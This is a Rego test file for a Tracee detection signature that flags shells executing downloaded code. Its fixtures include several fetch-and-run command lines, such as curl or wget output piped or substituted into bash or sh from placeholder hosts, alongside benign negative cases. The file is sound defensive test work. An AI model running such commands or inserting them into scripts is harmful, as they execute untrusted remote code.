package tracee.TRC_R2P_055_test

import rego.v1

import data.tracee.TRC_R2P_055 as sig
import data.tracee.lib.fixtures as fx

test_metadata if {
	sig.__rego_metadoc__.id == "TRC-R2P-055"
	sig.tracee_selected_events == {{"source": "tracee", "name": "sched_process_exec", "origin": "*"}}
}

test_curl_pipe_bash if {
	cmd := "curl -fsSL http://198.51.100.4/i.sh | bash"
	ev := fx.exec_event("/usr/bin/dash", ["sh", "-c", cmd])
	sig.tracee_match == {"shell": "dash", "downloader": "curl", "shape": "pipe", "command": cmd} with input as ev
}

test_wget_command_substitution if {
	ev := fx.container_exec_event("/bin/bash", ["bash", "-c", "sh -c \"$(wget -qO- http://x.example/a)\""])
	sig.tracee_match.shape == "command substitution" with input as ev
	sig.tracee_match.downloader == "wget" with input as ev
}

test_process_substitution if {
	ev := fx.exec_event("/bin/bash", ["bash", "-c", "bash <(curl -s https://get.example.sh)"])
	sig.tracee_match.shape == "process substitution" with input as ev
}

test_download_to_file if {
	ev := fx.exec_event("/bin/bash", ["bash", "-c", "curl -o /tmp/a.tar.gz https://example.org/a.tar.gz && tar xzf /tmp/a.tar.gz"])
	not sig.tracee_match with input as ev
}

test_curl_pipe_jq if {
	ev := fx.exec_event("/bin/bash", ["bash", "-c", "curl -s http://localhost:8080/health | jq .status"])
	not sig.tracee_match with input as ev
}

test_curl_itself if {
	ev := fx.exec_event("/usr/bin/curl", ["curl", "-c", "cookies.txt", "http://x | sh"])
	not sig.tracee_match with input as ev
}

test_repeated_c_option if {
	ev := fx.exec_event("/bin/bash", ["bash", "-c", "wget -O- http://x.example/s | sh", "-c", "true"])
	sig.tracee_match.downloader == "wget" with input as ev
}
